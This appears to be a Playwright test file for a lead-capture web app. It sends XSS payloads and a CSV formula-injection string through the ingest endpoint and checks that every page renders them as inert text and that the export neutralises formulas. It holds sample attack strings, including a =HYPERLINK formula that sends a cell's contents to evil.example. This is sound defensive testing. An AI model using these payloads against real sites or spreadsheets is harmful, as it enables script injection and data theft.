// Lead data is text everywhere: a lead named <img src=x onerror=alert(1)>, markup in other fields, a custom
// field, the custom field's label, the link's and the workspace's names, sent through the real capture
// endpoint, then every page that shows them is visited. Nothing may run (no dialog), nothing may become an
// element (no <img src=x>, no on* attribute, no javascript: link), and the text shows literally.
// The CSP (proxy.ts) would block an inline handler even if markup got through; these checks look at the
// DOM as well, so they catch an escaping mistake that the CSP would hide.
import type { APIRequestContext, Page } from "@playwright/test";
import { expect, seedWorkspace, signIn, test } from "./support/admin";
import { leadlinkCli } from "./support/cli";

const XSS_NAME = "<img src=x onerror=alert(1)>";
const XSS = {
  name: XSS_NAME,
  city: '<script>alert("city")</script>',
  profession: '"><svg onload=alert(2)>',
  utmSource: "javascript:alert(3)",
  custom: "<img src=x onerror=alert(5)>",
  fieldLabel: "<b onmouseover=alert(4)>Notes</b>",
  linkName: "<script>alert(6)</script> landing",
  workspaceName: "<img src=x onerror=alert(9)> Acme",
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
};

interface Seeded {
  slug: string;
  linkId: string;
  leadId: string;
}

/** A workspace with markup in every name, a link, and leads with markup in every field, sent over HTTP. */
async function seedHostileWorkspace(dataDir: string, baseURL: string, request: APIRequestContext, page: Page): Promise<Seeded> {
  const workspace = await seedWorkspace(dataDir, { name: `${XSS.workspaceName} ${Date.now()}` });
  await leadlinkCli(dataDir, ["field", "create", "--workspace", workspace.slug, "--name", "notes", "--label", XSS.fieldLabel]);
  const link = await leadlinkCli<{ id: string; token: string; url: string }>(dataDir, [
    "link",
    "create",
    "--workspace",
    workspace.slug,
    "--name",
    XSS.linkName,
  ]);
  const ingest = `${baseURL}/ingest/${link.token}`;
  const accepted = await request.post(ingest, {
    data: {
      name: XSS.name,
      email: `xss.${Date.now()}@example.com`,
      city: XSS.city,
      profession: XSS.profession,
      utmSource: XSS.utmSource,
      customFields: { notes: XSS.custom },
    },
  });
  expect(accepted.status(), await accepted.text()).toBe(201);
  const { leadId } = (await accepted.json()) as { leadId: string };
  const formula = await request.post(ingest, { data: { name: XSS.formula, email: `formula.${Date.now()}@example.com` } });
  expect(formula.status()).toBe(201);
  // A rejected one: its raw payload is shown in the request log.
  const rejected = await request.post(ingest, { data: { name: XSS.name, email: "<svg onload=alert(8)>" } });
  expect(rejected.status()).toBe(422);
  await signIn(page.context(), baseURL, workspace.email, workspace.password);
  return { slug: workspace.slug, linkId: link.id, leadId };
}

/** Fails the test on any dialog the page opens (alert, confirm, prompt). */
function watchDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

/** Opens `path`, expands collapsed details, and checks that no lead data became markup. */
async function expectInert(page: Page, path: string, dialogs: string[]): Promise<void> {
  const response = await page.goto(path);
  expect(response?.status(), `${path} answers`).toBe(200);
  // Images (and their onerror) settle before "load"; some pages keep polling, so "networkidle" never comes.
  await page.waitForLoadState("load");
  await page.evaluate(() =>
    document.querySelectorAll("details").forEach((details) => ((details as HTMLDetailsElement).open = true)),
  );
  const injected = await page.evaluate(() => {
    const found: string[] = [];
    for (const element of document.querySelectorAll("*")) {
      for (const attribute of element.getAttributeNames()) {
        if (attribute.toLowerCase().startsWith("on")) found.push(`${element.tagName} ${attribute}`);
      }
    }
    document.querySelectorAll('img[src="x"], svg[onload], b[onmouseover]').forEach((element) => found.push(element.outerHTML));
    document
      .querySelectorAll('a[href^="javascript:" i], [src^="javascript:" i]')
      .forEach((element) => found.push(element.outerHTML));
    document.querySelectorAll("script").forEach((script) => {
      if (/^\s*alert\(/.test(script.textContent ?? "")) found.push(script.outerHTML);
    });
    return found;
  });
  expect(injected, `elements made from lead data on ${path}`).toEqual([]);
  expect(dialogs, `dialogs opened on ${path}`).toEqual([]);
}

/** The text shows as typed, somewhere on the page. */
async function expectLiteral(page: Page, text: string): Promise<void> {
  await expect(page.getByText(text, { exact: false }).first()).toBeVisible();
}

test("the request log of a link shows markup in lead data, link and field names as text", async ({
  page,
  leadlink,
  request,
  baseURL,
}) => {
  const dialogs = watchDialogs(page);
  const seeded = await seedHostileWorkspace(leadlink.dataDir, baseURL!, request, page);
  await expectInert(page, `/w/${seeded.slug}/links`, dialogs);
  await expectLiteral(page, XSS.linkName);
  await expectInert(page, `/w/${seeded.slug}/links/${seeded.linkId}`, dialogs);
  await expectLiteral(page, XSS.linkName);
  await expectLiteral(page, XSS_NAME);
  await expectLiteral(page, XSS.custom);
  await expectLiteral(page, "<svg onload=alert(8)>");
  await expectInert(page, `/w/${seeded.slug}/fields`, dialogs);
  await expectLiteral(page, XSS.fieldLabel);
});

test("the dashboard and the workspace shell show markup in names and lead data as text", async ({
  page,
  leadlink,
  request,
  baseURL,
}) => {
  const dialogs = watchDialogs(page);
  const seeded = await seedHostileWorkspace(leadlink.dataDir, baseURL!, request, page);
  await expectInert(page, `/w/${seeded.slug}`, dialogs);
  await expectLiteral(page, XSS.workspaceName);
});

test("the leads list shows markup in lead data as text", async ({ page, leadlink, request, baseURL }) => {
  const dialogs = watchDialogs(page);
  const seeded = await seedHostileWorkspace(leadlink.dataDir, baseURL!, request, page);
  await expectInert(page, `/w/${seeded.slug}/leads`, dialogs);
  await expectLiteral(page, XSS_NAME);
});

test("the lead detail shows markup in every field, a custom field and its label as text", async ({
  page,
  leadlink,
  request,
  baseURL,
}) => {
  const dialogs = watchDialogs(page);
  const seeded = await seedHostileWorkspace(leadlink.dataDir, baseURL!, request, page);
  await expectInert(page, `/w/${seeded.slug}/leads/${seeded.leadId}`, dialogs);
  for (const text of [XSS_NAME, XSS.city, XSS.profession, XSS.custom, XSS.fieldLabel]) await expectLiteral(page, text);
});

test("the CSV export is a download, not a page, and does not start a cell with a formula", async ({
  page,
  leadlink,
  request,
  baseURL,
}) => {
  const seeded = await seedHostileWorkspace(leadlink.dataDir, baseURL!, request, page);
  const response = await page.context().request.get(`${baseURL}/w/${seeded.slug}/leads/export`);
  expect(response.status()).toBe(200);
  const headers = response.headers();
  expect(headers["content-type"]).toMatch(/^text\/csv\b/);
  expect(headers["content-disposition"]).toMatch(/^attachment\b/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const csv = await response.text();
  expect(csv).toContain("<img src=x onerror=alert(1)>");
  // OWASP CSV injection: a spreadsheet would run a cell that starts with = + - @ as a formula.
  expect(csv).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
});
